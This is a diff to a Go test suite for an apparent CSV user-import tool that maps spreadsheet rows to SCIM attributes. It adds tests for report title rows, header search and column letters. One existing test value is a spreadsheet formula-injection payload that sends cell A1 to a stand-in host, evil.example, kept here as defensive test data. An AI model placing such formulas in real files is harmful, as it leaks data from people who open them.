@@ -44,6 +44,12 @@ func TestMessyFiles(t *testing.T) {
 				"zoe@example.com": {"name.givenName=Zoe", "title=Head of\nEngineering"},
 				"ana@example.com": {"name.givenName=Ana", "title=CEO"},
 			}},
+		{file: "report-title.csv", summary: "3 rows: 2 created, 0 updated, 0 unchanged, 1 rejected",
+			lines: []string{"header on row 4: rows 1-3 above it skipped", "row 7: rejected Total: 2: only one cell is filled"},
+			users: map[string][]string{
+				"zoe@example.com": {"name.givenName=Zoë", "name.familyName=Müller", "title=Lead"},
+				"ana@example.com": {"name.familyName=O'Neil", "title=CEO"},
+			}},
 		{file: "formulas.csv", summary: "2 rows: 2 created",
 			users: map[string][]string{
 				"zoe@example.com": {`name.givenName==HYPERLINK("http://evil.example/?x="&A1,"Zoe")`, "name.familyName=+Muller", "title=-2+3"},
@@ -118,4 +124,28 @@ func utf16be(s string) []byte {
 		out = append(out, byte(u>>8), byte(u))
 	}
 	return out
+}
+
+// The header is looked for below a report's title lines, but not past
+// row 10, and a header's own problem is reported with its row.
+func TestHeaderSearch(t *testing.T) {
+	for _, c := range []struct{ name, data, want string }{
+		{"no header in the first rows", strings.Repeat("Report\n", 12) + "userName\na@x.io\n", "no column holds the matching attribute userName (--match): map one in import.columns or name it in the header (rows 1-10 looked at for the header)"},
+		{"duplicate column below a title", "Report\nuserName,title,Title\na@x.io,x,y\n", `header (row 2): columns B ("title") and C ("Title") both set Title`},
+		{"only title lines", "Report\nGenerated today\n", "(rows 1-2 looked at for the header)"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			b := newTestBridge(t, scim.Options{})
+			_, _, err := b.run([]byte(c.data), Options{})
+			if err == nil || !strings.Contains(err.Error(), c.want) {
+				t.Errorf("error %v, want %q", err, c.want)
+			}
+			if b.writes.Load() != 0 {
+				t.Errorf("%d writes", b.writes.Load())
+			}
+		})
+	}
+	if got := columnLetter(0) + columnLetter(25) + columnLetter(26) + columnLetter(701) + columnLetter(702); got != "AZAAZZAAA" {
+		t.Errorf("column letters %q", got)
+	}
 }
